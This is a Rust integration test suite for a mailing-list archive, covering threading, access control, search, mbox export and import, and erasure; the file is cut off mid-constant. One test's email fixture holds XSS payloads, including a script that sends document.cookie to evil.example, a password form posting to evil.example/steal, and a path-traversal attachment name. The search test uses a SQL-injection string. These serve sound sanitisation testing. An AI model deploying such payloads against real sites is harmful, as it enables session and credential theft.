//! The archives: posts archived as their list copies when they go out (held ones only when
//! approved), threaded like a mail client (a client that drops References included), searched
//! through the decoded text; who may read (member / ex-member / future term / non-member /
//! public / administrators in and out of scope); hostile HTML and attachments; mbox out and in;
//! erasure both ways; `Archived-At` under DKIM (dkimpy); a board member in Chromium.

use std::time::Duration;

use circlemail::archive::{self, store::Query};
use serde_json::json;

use crate::on_both_backends;
use crate::support::{
    admin::{BREAK_GLASS, Client, account, give_address, group, person_id},
    app::{TestApp, chrono_now, web_config},
    db::TestDb,
    sink::Sink,
    smtp,
    web::{WebClient, html_unescape, sign_in},
};

async fn start(db: &TestDb) -> (TestApp, Sink, Client) {
    let sink = Sink::start().await;
    let mut config = web_config(&db.url, sink.addr);
    config.http.api_token = Some(circlemail::config::Secret::new(BREAK_GLASS));
    let app = TestApp::spawn(config).await;
    let root = Client {
        http: app.http,
        token: BREAK_GLASS.into(),
    };
    (app, sink, root)
}

// A list `local@lists.test` called `name` with these members; its id.
async fn list(root: &Client, name: &str, local: &str, members: &[&str]) -> i64 {
    let id = group(root, name, None, members).await;
    give_address(root, id, local).await;
    id
}

// A message; `refs`: References, the last also In-Reply-To (none: a client that drops them).
// Dated now: the archive files a post by when it arrived and an imported one by its Date, and
// the round trip compares the two in this month's archive.
fn mail(from: &str, to: &str, subject: &str, id: &str, refs: &[&str], body: &str) -> String {
    let date = chrono::DateTime::from_timestamp_millis(chrono_now())
        .expect("now is a date")
        .to_rfc2822();
    let mut m = format!(
        "From: {from}\r\nTo: {to}\r\nSubject: {subject}\r\nMessage-ID: <{id}>\r\nDate: {date}\r\n"
    );
    if let Some(last) = refs.last() {
        m.push_str(&format!("In-Reply-To: <{last}>\r\n"));
        let all: Vec<String> = refs.iter().map(|r| format!("<{r}>")).collect();
        m.push_str(&format!("References: {}\r\n", all.join(" ")));
    }
    m.push_str(&format!("\r\n{body}"));
    m
}

async fn post(app: &TestApp, from: &str, to: &[&str], message: &str) -> String {
    let (mut c, _) = smtp::Client::connect(app.smtp).await;
    c.cmd("EHLO client.test").await;
    let r = c.post(from, to, message).await;
    assert!(r.starts_with("250"), "{r}");
    r
}

// The archived messages of a list: (message id → (thread id, parent's message id)).
async fn threads(
    app: &TestApp,
    list: i64,
) -> std::collections::HashMap<String, (i64, Option<String>)> {
    let month = archive::month_of(chrono_now());
    let mut out = std::collections::HashMap::new();
    let mut ids = std::collections::HashMap::new();
    for t in app.store.archive_month(list, &month).await.unwrap() {
        for (s, raw) in app.store.archive_thread(list, t.thread_id).await.unwrap() {
            let e = archive::entry(&raw).unwrap();
            ids.insert(s.id, e.message_id.clone());
            out.insert(e.message_id, (s.thread_id, s.parent_id));
        }
    }
    out.into_iter()
        .map(|(k, (t, p))| (k, (t, p.and_then(|p| ids.get(&p).cloned()))))
        .collect()
}

// A reply-all conversation on a board: Anna starts, Bo answers all (the list and Anna
// directly), Cecilia's client drops References (her "Re:" subject places her), Anna answers
// Cecilia; a reply that arrives before the message it answers joins when that one comes.
// The thread page shows the conversation with quoted text folded.
on_both_backends!(a_reply_all_conversation_is_threaded, async |db: &TestDb| {
    let (app, sink, root) = start(db).await;
    let board = list(
        &root,
        "Board",
        "board",
        &["anna@x.org", "bo@x.org", "cecilia@x.org"],
    )
    .await;
    let to = "board@lists.test";
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Budget 2027",
            "a@x.org",
            &[],
            "Shall we cut the hall rent?",
        ),
    )
    .await;
    post(
        &app,
        "bo@x.org",
        &[to],
        &mail(
            "bo@x.org",
            &format!("{to}, anna@x.org"),
            "Re: Budget 2027",
            "b@x.org",
            &["a@x.org"],
            "Yes.\r\n\r\nAnna wrote:\r\n> Shall we cut the hall rent?\r\n",
        ),
    )
    .await;
    post(
        &app,
        "cecilia@x.org",
        &[to],
        &mail(
            "cecilia@x.org",
            to,
            "SV: Re: Budget 2027",
            "c@x.org",
            &[],
            "No, keep it.",
        ),
    )
    .await;
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Re: Budget 2027",
            "d@x.org",
            &["a@x.org", "b@x.org", "c@x.org"],
            "Then we vote.\r\n> No, keep it.\r\n",
        ),
    )
    .await;
    // Out of order: the answer to "e" comes first.
    post(
        &app,
        "bo@x.org",
        &[to],
        &mail(
            "bo@x.org",
            to,
            "Re: Summer party",
            "f@x.org",
            &["e@x.org"],
            "I bring cake.",
        ),
    )
    .await;
    post(
        &app,
        "cecilia@x.org",
        &[to],
        &mail(
            "cecilia@x.org",
            to,
            "Summer party",
            "e@x.org",
            &[],
            "June 20?",
        ),
    )
    .await;

    let t = threads(&app, board).await;
    assert_eq!(t.len(), 6, "{t:?}");
    let thread = t["a@x.org"].0;
    for m in ["b@x.org", "c@x.org", "d@x.org"] {
        assert_eq!(t[m].0, thread, "{m} in the budget thread: {t:?}");
    }
    assert_eq!(t["a@x.org"].1, None);
    assert_eq!(t["b@x.org"].1.as_deref(), Some("a@x.org"));
    assert_eq!(
        t["c@x.org"].1.as_deref(),
        Some("b@x.org"),
        "by subject: {t:?}"
    );
    assert_eq!(t["d@x.org"].1.as_deref(), Some("c@x.org"));
    assert_eq!(
        t["f@x.org"].0, t["e@x.org"].0,
        "joined when its parent came"
    );
    assert_eq!(t["f@x.org"].1.as_deref(), Some("e@x.org"));
    assert_ne!(t["e@x.org"].0, thread);

    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "bo@x.org").await;
    let page = web.get(&format!("/archives/{board}/thread/{thread}")).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert_eq!(page.body.matches("<article").count(), 4);
    assert!(html_unescape(&page.body).contains("<details class=\"quote\"><summary>Quoted text (1 lines)</summary><pre>> Shall we cut the hall rent?</pre></details>"), "{}", page.body);
    assert!(
        page.body.contains("depth-3"),
        "Anna's answer to Cecilia is three deep"
    );
    let month = web
        .get(&format!(
            "/archives/{board}/month/{}",
            archive::month_of(chrono_now())
        ))
        .await;
    assert_eq!(month.status, 200);
    assert!(month.body.contains("Budget 2027") && month.body.contains("Summer party"));
    assert_eq!(
        month.body.matches("/thread/").count(),
        2,
        "two conversations"
    );
    app.stop().await;
});

// A held post enters the archive only when approved; a rejected one never.
on_both_backends!(
    held_posts_are_archived_only_when_approved,
    async |db: &TestDb| {
        let (app, _sink, root) = start(db).await;
        let board = list(&root, "Board", "board", &["anna@x.org"]).await;
        let to = "board@lists.test";
        post(
            &app,
            "guest@y.org",
            &[to],
            &mail("guest@y.org", to, "Offer", "g1@y.org", &[], "Buy."),
        )
        .await;
        post(
            &app,
            "guest@y.org",
            &[to],
            &mail("guest@y.org", to, "Offer two", "g2@y.org", &[], "Buy more."),
        )
        .await;
        assert!(
            app.store.archive_months(board).await.unwrap().is_empty(),
            "held: not archived"
        );
        let held = root.ok("GET", "/moderation", None).await;
        let held = held["held"].as_array().unwrap().clone();
        assert_eq!(held.len(), 2);
        let id_of = |subject: &str| {
            held.iter().find(|h| h["subject"] == subject).unwrap()["id"]
                .as_i64()
                .unwrap()
        };
        root.ok(
            "POST",
            &format!("/moderation/{}/approve", id_of("Offer")),
            None,
        )
        .await;
        root.ok(
            "POST",
            &format!("/moderation/{}/reject", id_of("Offer two")),
            None,
        )
        .await;
        let t = threads(&app, board).await;
        assert_eq!(t.keys().collect::<Vec<_>>(), vec!["g1@y.org"]);
        app.stop().await;
    }
);

// Who may read: the people who receive the list now; administrators in scope; nobody else
// (the same 404 as an unknown list); the setting `archive` narrows or widens it.
on_both_backends!(who_may_read_follows_membership_now, async |db: &TestDb| {
    let (app, sink, root) = start(db).await;
    let board = list(&root, "Board", "board", &["anna@x.org"]).await;
    let other = list(&root, "Choir", "choir", &["nils@x.org"]).await;
    let now = chrono_now();
    let today = chrono::DateTime::from_timestamp_millis(now)
        .unwrap()
        .date_naive();
    for (email, from, until) in [
        (
            "erik@x.org",
            Some("2020-01-01".to_string()),
            Some("2021-01-01".to_string()),
        ),
        (
            "frida@x.org",
            Some((today + chrono::Days::new(30)).to_string()),
            None,
        ),
    ] {
        let p = app
            .store
            .upsert_person(
                &circlemail::model::address::EmailAddress::parse(email).unwrap(),
                None,
                now,
            )
            .await
            .unwrap();
        app.store
            .add_member_with_term(
                board,
                p.id,
                "member",
                from.as_deref(),
                until.as_deref(),
                now,
            )
            .await
            .unwrap();
    }
    account(
        &root,
        &app.store,
        "mia@x.org",
        Some("moderator"),
        Some(board),
    )
    .await;
    account(
        &root,
        &app.store,
        "olle@x.org",
        Some("group_manager"),
        Some(other),
    )
    .await;
    let to = "board@lists.test";
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Minutes",
            "m1@x.org",
            &[],
            "Signed.\r\nWrite to anna@x.org.",
        ),
    )
    .await;
    let thread = threads(&app, board).await["m1@x.org"].0;
    let page = format!("/archives/{board}/thread/{thread}");

    // Not signed in: the sign-in, for this list and for one that does not exist alike.
    let anonymous = WebClient::new(app.http);
    for path in [page.clone(), "/archives/999999/thread/1".to_string()] {
        let p = anonymous.get(&path).await;
        assert_eq!(p.status, 303, "{path}");
        assert!(p.location().unwrap().starts_with("/signin?next="), "{path}");
    }
    let unknown = {
        let w = WebClient::new(app.http);
        sign_in(&w, &sink, "nils@x.org").await;
        w.get("/archives/999999/thread/1").await
    };
    assert_eq!(unknown.status, 404);

    for (who, may) in [
        ("anna@x.org", true),   // member now
        ("erik@x.org", false),  // ex-member
        ("frida@x.org", false), // term starts next month
        ("nils@x.org", false),  // member of another list only
        ("mia@x.org", true),    // administrator in scope
        ("olle@x.org", false),  // administrator of another group
    ] {
        let web = WebClient::new(app.http);
        sign_in(&web, &sink, who).await;
        let p = web.get(&page).await;
        assert_eq!(p.status, if may { 200 } else { 404 }, "{who}: {}", p.body);
        if !may {
            assert_eq!(
                p.body, unknown.body,
                "{who}: the same page as an unknown list"
            );
        } else {
            assert!(p.body.contains("anna@x.org"), "{who}: addresses in full");
        }
        let lists = web.get("/archives").await;
        assert_eq!(
            lists.body.contains(&format!("/archives/{board}\"")),
            may,
            "{who}"
        );
        let mbox = web.get(&format!("{page}/mbox")).await;
        assert_eq!(mbox.status, if may { 200 } else { 404 }, "{who}: mbox");
    }

    // Frida's term begins: she reads from that day (a term starting today).
    let frida = person_id(&root, "frida@x.org").await;
    root.ok("DELETE", &format!("/groups/{board}/members/{frida}"), None)
        .await;
    root.ok(
        "POST",
        &format!("/groups/{board}/members"),
        Some(json!({"email": "frida@x.org", "valid_from": today.to_string()})),
    )
    .await;
    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "frida@x.org").await;
    assert_eq!(web.get(&page).await.status, 200, "a term that has begun");
    // Anna leaves: at once.
    let anna_web = WebClient::new(app.http);
    sign_in(&anna_web, &sink, "anna@x.org").await;
    let anna = person_id(&root, "anna@x.org").await;
    root.ok("DELETE", &format!("/groups/{board}/members/{anna}"), None)
        .await;
    assert_eq!(anna_web.get(&page).await.status, 404, "left: no access");

    // managers only: the moderator still reads, members do not.
    root.ok(
        "PUT",
        &format!("/groups/{board}/settings"),
        Some(json!({"archive": "managers"})),
    )
    .await;
    assert_eq!(
        web.get(&page).await.status,
        404,
        "a member, archive = managers"
    );
    let mia = WebClient::new(app.http);
    sign_in(&mia, &sink, "mia@x.org").await;
    assert_eq!(mia.get(&page).await.status, 200);
    // public: anyone, addresses shortened.
    root.ok(
        "PUT",
        &format!("/groups/{board}/settings"),
        Some(json!({"archive": "public"})),
    )
    .await;
    let p = anonymous.get(&page).await;
    assert_eq!(p.status, 200, "{}", p.body);
    assert!(
        !p.body.contains("anna@x.org") && p.body.contains("anna@x…"),
        "{}",
        p.body
    );
    let mbox = anonymous.get(&format!("{page}/mbox")).await;
    assert!(!mbox.body.contains("anna@x.org"), "{}", mbox.body);
    // none: nobody, not even administrators.
    root.ok(
        "PUT",
        &format!("/groups/{board}/settings"),
        Some(json!({"archive": "none"})),
    )
    .await;
    assert_eq!(mia.get(&page).await.status, 404);
    app.stop().await;
});

// HTML with a script, a remote image and a form is shown without them; a hostile attachment
// is only ever a download.
on_both_backends!(
    hostile_html_and_attachments_are_harmless,
    async |db: &TestDb| {
        let (app, sink, root) = start(db).await;
        let board = list(&root, "Board", "board", &["anna@x.org"]).await;
        let to = "board@lists.test";
        let m = format!(
            "From: anna@x.org\r\nTo: {to}\r\nSubject: <script>alert(1)</script> Look\r\nMessage-ID: <h1@x.org>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n\
             --a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlain words <b>here</b>.\r\n\
             --a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Rich words</p><script>alert('x')</script>\
             <img src=\"https://track.example/pixel.gif\"><form action=\"https://evil.example/steal\"><input name=\"password\"></form>\
             <a href=\"javascript:alert(2)\">click</a><iframe src=\"https://evil.example/\"></iframe>\r\n--a--\r\n\
             --m\r\nContent-Type: text/html; name=\"invoice.html\"\r\nContent-Disposition: attachment; filename=\"../../invoice.html\"\r\n\r\n\
             <script>document.location='https://evil.example/'+document.cookie</script>\r\n--m--\r\n"
        );
        post(&app, "anna@x.org", &[to], &m).await;
        let t = threads(&app, board).await;
        let thread = t["h1@x.org"].0;
        let web = WebClient::new(app.http);
        sign_in(&web, &sink, "anna@x.org").await;
        let page = web.get(&format!("/archives/{board}/thread/{thread}")).await;
        assert_eq!(page.status, 200);
        let body = &page.body;
        assert!(
            html_unescape(body).contains("Plain words <b>here</b>."),
            "{body}"
        );
        assert!(body.contains("Rich words"), "{body}");
        assert!(
            body.contains("&#60;script&#62;alert(1)&#60;/script&#62; Look"),
            "the subject escaped"
        );
        for bad in [
            "<script>alert",
            "track.example",
            "evil.example/steal",
            "<input name=\"password",
            "javascript:",
            "<iframe",
        ] {
            assert!(!body.contains(bad), "{bad} in {body}");
        }
        assert!(
            page.header("content-security-policy")
                .unwrap()
                .contains("script-src 'self'")
        );
        // The attachment: a download of unknown type, never sniffed, its name without a path.
        let link = body
            .split("href=\"")
            .find(|s| s.contains("/part/0"))
            .and_then(|s| s.split('"').next())
            .unwrap()
            .to_string();
        let file = web.get(&link).await;
        assert_eq!(file.status, 200);
        assert_eq!(
            file.header("content-type"),
            Some("application/octet-stream")
        );
        assert_eq!(file.header("x-content-type-options"), Some("nosniff"));
        let cd = file.header("content-disposition").unwrap();
        assert!(
            cd.starts_with("attachment; filename=\"invoice.html\""),
            "{cd}"
        );
        assert!(
            file.body.contains("<script>document.location"),
            "the bytes as sent"
        );
        app.stop().await;
    }
);

// Search finds words in quoted-printable, base64 and Swedish (å ä ö) bodies, filtered by
// author, subject and date, results as conversations.
on_both_backends!(search_reads_the_decoded_text, async |db: &TestDb| {
    let (app, sink, root) = start(db).await;
    let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
    let to = "board@lists.test";
    let qp = format!(
        "From: Anna <anna@x.org>\r\nTo: {to}\r\nSubject: Agenda\r\nMessage-ID: <s1@x.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nF=C3=B6rslag: budgetm=C3=B6tet flyttas till tisdag, se protokoll=\r\nf=C3=B6rda.\r\n"
    );
    let b64 = {
        use base64::Engine;
        let text = base64::engine::general_purpose::STANDARD
            .encode("Bifogat: årsredovisningen för 2026 och kassaboken.".as_bytes());
        format!(
            "From: Bo <bo@x.org>\r\nTo: {to}\r\nSubject: Kassa\r\nMessage-ID: <s2@x.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{text}\r\n"
        )
    };
    let latin1 = format!(
        "From: Bo <bo@x.org>\r\nTo: {to}\r\nSubject: =?iso-8859-1?q?R=E4ksm=F6rg=E5s?=\r\nMessage-ID: <s3@x.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    );
    let mut latin1 = latin1.into_bytes();
    latin1.extend_from_slice(b"Vi \xe4ter r\xe4ksm\xf6rg\xe5sar p\xe5 m\xf6tet.\r\n");
    post(&app, "anna@x.org", &[to], &qp).await;
    post(&app, "bo@x.org", &[to], &b64).await;
    let (mut c, _) = smtp::Client::connect(app.smtp).await;
    c.cmd("EHLO client.test").await;
    c.cmd("MAIL FROM:<bo@x.org> BODY=8BITMIME").await;
    c.cmd(&format!("RCPT TO:<{to}>")).await;
    c.cmd("DATA").await;
    c.send_bytes(&latin1).await;
    assert!(c.cmd(".").await.starts_with("250"));

    let found = |q: Query| {
        let store = app.store.clone();
        async move {
            let rows = store.archive_search(board, &q).await.unwrap();
            let mut subjects: Vec<String> = rows.into_iter().map(|r| r.first.subject).collect();
            subjects.sort();
            subjects
        }
    };
    let words = |w: &str| Query {
        words: w.into(),
        ..Default::default()
    };
    assert_eq!(
        found(words("budgetmötet")).await,
        ["Agenda"],
        "quoted-printable"
    );
    assert_eq!(
        found(words("protokollförda")).await,
        ["Agenda"],
        "a soft line break"
    );
    assert_eq!(found(words("årsredovisningen")).await, ["Kassa"], "base64");
    assert_eq!(
        found(words("räksmörgåsar")).await,
        ["Räksmörgås"],
        "ISO-8859-1"
    );
    assert_eq!(
        found(words("räksmörgås")).await,
        ["Räksmörgås"],
        "in the subject"
    );
    assert_eq!(found(words("TISDAG")).await, ["Agenda"], "any case");
    assert_eq!(found(words("mötet")).await, ["Räksmörgås"], "whole words");
    assert!(found(words("saknas")).await.is_empty());
    assert_eq!(
        found(Query {
            words: "tisdag".into(),
            author: "Anna".into(),
            ..Default::default()
        })
        .await,
        ["Agenda"]
    );
    assert_eq!(
        found(Query {
            author: "bo@x".into(),
            subject: "kas".into(),
            ..Default::default()
        })
        .await,
        ["Kassa"]
    );
    let tomorrow = chrono_now() + 24 * 3600 * 1000;
    assert!(
        found(Query {
            words: "tisdag".into(),
            from: Some(tomorrow),
            ..Default::default()
        })
        .await
        .is_empty()
    );
    assert_eq!(
        found(Query {
            words: "'\" OR 1=1 --".into(),
            ..Default::default()
        })
        .await
        .len(),
        0
    );

    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "anna@x.org").await;
    let page = web
        .get(&format!(
            "/archives/{board}/search?q=r%C3%A4ksm%C3%B6rg%C3%A5sar&author=&subject=&from=&until="
        ))
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("Räksmörgås"), "{}", page.body);
    let bad = web
        .get(&format!("/archives/{board}/search?q=x&from=yesterday"))
        .await;
    assert!(bad.body.contains("Dates are written"), "{}", bad.body);
    app.stop().await;
});

// Search results come 20 conversations a page, the latest match first, with a next-page
// link and a short snippet around the word found: the mail's own markup shown as text.
on_both_backends!(
    search_results_are_paged_with_escaped_snippets,
    async |db: &TestDb| {
        let (app, sink, root) = start(db).await;
        let board = list(&root, "Board", "board", &["anna@x.org"]).await;
        for i in 0..45 {
            let raw = format!(
                "From: Bo <bo@x.org>\r\nTo: board@lists.test\r\nSubject: Item {i}\r\nMessage-ID: <item{i}@x.org>\r\nDate: Mon, 23 Nov 2026 10:{i:02}:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nA first line.\r\n<script>alert({i})</script> The kassören said <b>yes</b> to item {i}.\r\n"
            );
            app.store
                .archive_import(board, raw.as_bytes(), 0)
                .await
                .unwrap()
                .unwrap();
        }
        let web = WebClient::new(app.http);
        sign_in(&web, &sink, "anna@x.org").await;
        let first = web
            .get(&format!("/archives/{board}/search?q=kass%C3%B6ren"))
            .await;
        assert_eq!(first.status, 200, "{}", first.body);
        let body = &first.body;
        assert_eq!(body.matches("class=\"snippet\"").count(), 20, "{body}");
        // The newest first.
        assert!(
            body.find(">Item 44<").unwrap() < body.find(">Item 25<").unwrap(),
            "{body}"
        );
        assert!(!body.contains(">Item 24<"), "{body}");
        // The snippet: the word marked, the mail's markup escaped, never raw.
        assert!(
            body.contains("<mark>kassören</mark> said &#60;b&#62;yes&#60;/b&#62; to item 44."),
            "{body}"
        );
        assert!(
            body.contains("&#60;script&#62;alert(44)&#60;/script&#62;"),
            "{body}"
        );
        assert!(
            !body.contains("<script>alert") && !body.contains("<b>yes"),
            "{body}"
        );
        let next = |page: &str| -> Option<String> {
            page.split("rel=\"next\"")
                .next()
                .filter(|_| page.contains("rel=\"next\""))
                .and_then(|head| head.rsplit("href=\"").next())
                .and_then(|href| href.split('"').next())
                .map(html_unescape)
        };
        let second = next(body).expect("a next page");
        assert!(second.contains("page=2"), "{second}");
        let page2 = web.get(&second).await;
        assert_eq!(
            page2.body.matches("class=\"snippet\"").count(),
            20,
            "{}",
            page2.body
        );
        assert!(page2.body.contains(">Item 24<") && page2.body.contains(">Item 5<"));
        assert!(page2.body.contains("rel=\"prev\""), "{}", page2.body);
        let third = next(&page2.body).expect("a third page");
        let page3 = web.get(&third).await;
        assert_eq!(
            page3.body.matches("class=\"snippet\"").count(),
            5,
            "{}",
            page3.body
        );
        assert!(page3.body.contains(">Item 0<"), "{}", page3.body);
        assert!(next(&page3.body).is_none(), "{}", page3.body);
        // A page past the end: nothing found, no next page.
        let past = web
            .get(&format!("/archives/{board}/search?q=item&page=9"))
            .await;
        assert_eq!(past.status, 200);
        assert!(past.body.contains("Nothing found.") && next(&past.body).is_none());
        // The same pages through the store: 20, 20, 5, then nothing.
        let q = Query {
            words: "kassören".into(),
            ..Default::default()
        };
        let mut sizes = Vec::new();
        for page in 0..4 {
            let (rows, more) = app
                .store
                .archive_search_page(board, &q, page)
                .await
                .unwrap();
            sizes.push((rows.len(), more));
        }
        assert_eq!(sizes, [(20, true), (20, true), (5, false), (0, false)]);
        app.stop().await;
    }
);

// A month's mbox streams every message of the month in order, read in pieces (more than one
// piece here), and a thread's mbox holds the thread only.
on_both_backends!(mbox_downloads_stream_in_pieces, async |db: &TestDb| {
    let (app, sink, root) = start(db).await;
    let board = list(&root, "Board", "board", &["anna@x.org"]).await;
    for i in 0..120 {
        let refs = if i % 2 == 1 {
            format!("In-Reply-To: <p{}@x.org>\r\n", i - 1)
        } else {
            String::new()
        };
        let raw = format!(
            "From: Bo <bo@x.org>\r\nSubject: Piece {i}\r\nMessage-ID: <p{i}@x.org>\r\n{refs}Date: Mon, 23 Nov 2026 {:02}:{:02}:00 +0000\r\n\r\nBody {i}.\r\n",
            i / 60,
            i % 60
        );
        app.store
            .archive_import(board, raw.as_bytes(), 0)
            .await
            .unwrap()
            .unwrap();
    }
    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "anna@x.org").await;
    let month = web
        .get(&format!("/archives/{board}/month/2026-11/mbox"))
        .await;
    assert_eq!(month.status, 200);
    let ids: Vec<&str> = month
        .body
        .lines()
        .filter_map(|l| l.strip_prefix("Message-ID: <"))
        .collect();
    let want: Vec<String> = (0..120).map(|i| format!("p{i}@x.org>")).collect();
    assert_eq!(ids, want);
    let threads = app.store.archive_month(board, "2026-11").await.unwrap();
    assert_eq!(threads.len(), 60);
    let t = threads
        .iter()
        .find(|t| t.first.subject == "Piece 10")
        .unwrap();
    let thread = web
        .get(&format!("/archives/{board}/thread/{}/mbox", t.thread_id))
        .await;
    let ids: Vec<&str> = thread
        .body
        .lines()
        .filter_map(|l| l.strip_prefix("Message-ID: <"))
        .collect();
    assert_eq!(ids, ["p10@x.org>", "p11@x.org>"]);
    let none = web
        .get(&format!("/archives/{board}/thread/999999/mbox"))
        .await;
    assert_eq!(none.status, 404);
    app.stop().await;
});

// A month downloaded as mbox and imported into a new list gives the same messages and
// threads; importing again changes nothing; unreadable messages are reported by position.
on_both_backends!(mbox_export_and_import_round_trip, async |db: &TestDb| {
    let (app, sink, root) = start(db).await;
    let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
    let copy = list(&root, "Board 2025", "board2025", &["anna@x.org"]).await;
    let to = "board@lists.test";
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Plan",
            "p1@x.org",
            &[],
            "From the start.\r\n>From the quote.\r\n",
        ),
    )
    .await;
    post(
        &app,
        "bo@x.org",
        &[to],
        &mail(
            "bo@x.org",
            to,
            "Re: Plan",
            "p2@x.org",
            &["p1@x.org"],
            "Agreed.",
        ),
    )
    .await;
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Re: Plan",
            "p3@x.org",
            &["p1@x.org", "p2@x.org"],
            "Done.",
        ),
    )
    .await;
    post(
        &app,
        "bo@x.org",
        &[to],
        &mail("bo@x.org", to, "Other", "o1@x.org", &[], "Else."),
    )
    .await;
    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "anna@x.org").await;
    let month = archive::month_of(chrono_now());
    let mbox = web
        .get(&format!("/archives/{board}/month/{month}/mbox"))
        .await;
    assert_eq!(mbox.status, 200);
    assert_eq!(mbox.header("content-type"), Some("application/mbox"));
    assert!(
        mbox.header("content-disposition")
            .unwrap()
            .contains("board-")
    );
    assert_eq!(mbox.body.matches("\nFrom ").count() + 1, 4, "{}", mbox.body);
    assert!(
        mbox.body
            .contains("\n>From the start.\n>>From the quote.\n"),
        "mboxrd quoting"
    );

    let mut file = mbox.body.clone().into_bytes();
    file.extend_from_slice(b"From nobody Mon Jan  1 00:00:00 2024\n\n\n");
    let report = archive::mbox::import(&app.store, copy, &file[..], chrono_now(), |_, _| {
        std::future::ready(())
    })
    .await
    .unwrap();
    assert_eq!((report.added, report.duplicates), (4, 0), "{report:?}");
    assert_eq!(report.unreadable.len(), 1, "{report:?}");
    assert_eq!(report.unreadable[0].0, 5, "by position: {report:?}");
    let before = threads(&app, board).await;
    let after = threads(&app, copy).await;
    let shape = |t: &std::collections::HashMap<String, (i64, Option<String>)>| {
        let mut v: Vec<(String, Option<String>, bool)> = t
            .iter()
            .map(|(m, (th, p))| (m.clone(), p.clone(), *th == t["p1@x.org"].0))
            .collect();
        v.sort();
        v
    };
    assert_eq!(
        shape(&before),
        shape(&after),
        "the same messages and threads"
    );
    // The bytes too.
    let a = app
        .store
        .archive_raw(&app.store.archive_ids(board, None, None).await.unwrap())
        .await
        .unwrap();
    let b = app
        .store
        .archive_raw(&app.store.archive_ids(copy, None, None).await.unwrap())
        .await
        .unwrap();
    assert_eq!(
        a.iter().map(|r| &r.2).collect::<Vec<_>>(),
        b.iter().map(|r| &r.2).collect::<Vec<_>>()
    );
    let again = archive::mbox::import(&app.store, copy, &file[..], chrono_now(), |_, _| {
        std::future::ready(())
    })
    .await
    .unwrap();
    assert_eq!(
        (again.added, again.duplicates),
        (0, 4),
        "re-import changes nothing"
    );
    // The thread as mbox.
    let thread = before["p1@x.org"].0;
    let t = web
        .get(&format!("/archives/{board}/thread/{thread}/mbox"))
        .await;
    assert_eq!(t.body.matches("Message-ID: <p").count(), 3, "{}", t.body);
    app.stop().await;
});

// Erasing a person: redacted where the list says redact (the default), removed where it says
// remove; their export lists their archived posts first.
on_both_backends!(
    erasure_redacts_or_removes_archived_posts,
    async |db: &TestDb| {
        let (app, sink, root) = start(db).await;
        let keep = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
        let gone = list(&root, "Chat", "chat", &["anna@x.org", "bo@x.org"]).await;
        root.ok(
            "PUT",
            &format!("/groups/{gone}/settings"),
            Some(json!({"archive_erasure": "remove"})),
        )
        .await;
        for to in ["board@lists.test", "chat@lists.test"] {
            post(
                &app,
                "anna@x.org",
                &[to],
                &mail(
                    "Anna Andersson <anna@x.org>",
                    to,
                    "Hello",
                    &format!("e-{to}"),
                    &[],
                    "Greetings from Anna Andersson.",
                ),
            )
            .await;
            post(
                &app,
                "bo@x.org",
                &[to],
                &mail(
                    "bo@x.org",
                    to,
                    "Re: Hello",
                    &format!("r-{to}"),
                    &[&format!("e-{to}")],
                    "Hi Anna.",
                ),
            )
            .await;
        }
        let anna = person_id(&root, "anna@x.org").await;
        let export = root
            .ok("GET", &format!("/people/{anna}/export"), None)
            .await;
        assert_eq!(
            export["archived_posts"].as_array().unwrap().len(),
            2,
            "{export}"
        );
        assert!(
            export["archived_posts"][0]["text"]
                .as_str()
                .unwrap()
                .contains("Greetings")
        );
        let erased = root
            .ok("POST", &format!("/people/{anna}/erase"), None)
            .await;
        assert_eq!(
            erased["archive"],
            json!({"redacted": 1, "removed": 1}),
            "{erased}"
        );

        let kept = threads(&app, keep).await;
        assert_eq!(kept.len(), 2);
        let (s, raw) = app
            .store
            .archive_thread(keep, kept["e-board@lists.test"].0)
            .await
            .unwrap()
            .remove(0);
        assert!(s.erased && s.author_name == "(erased)" && s.author_email.is_empty());
        let text = String::from_utf8_lossy(&raw);
        assert!(
            !text.contains("anna@x.org") && !text.contains("Anna Andersson"),
            "{text}"
        );
        assert!(
            app.store
                .archive_search(
                    keep,
                    &Query {
                        author: "anna".into(),
                        ..Default::default()
                    }
                )
                .await
                .unwrap()
                .is_empty()
        );
        assert!(
            app.store
                .archive_search(
                    keep,
                    &Query {
                        words: "Andersson".into(),
                        ..Default::default()
                    }
                )
                .await
                .unwrap()
                .is_empty()
        );
        let chat = threads(&app, gone).await;
        assert_eq!(
            chat.keys().collect::<Vec<_>>(),
            vec!["r-chat@lists.test"],
            "removed; the reply stays"
        );
        let web = WebClient::new(app.http);
        sign_in(&web, &sink, "bo@x.org").await;
        let page = web
            .get(&format!(
                "/archives/{keep}/thread/{}",
                kept["e-board@lists.test"].0
            ))
            .await;
        assert!(
            page.body.contains("(erased)") && !page.body.contains("anna@x.org"),
            "{}",
            page.body
        );
        app.stop().await;
    }
);

const VERIFY: &str = r#"
import sys, json, dkim
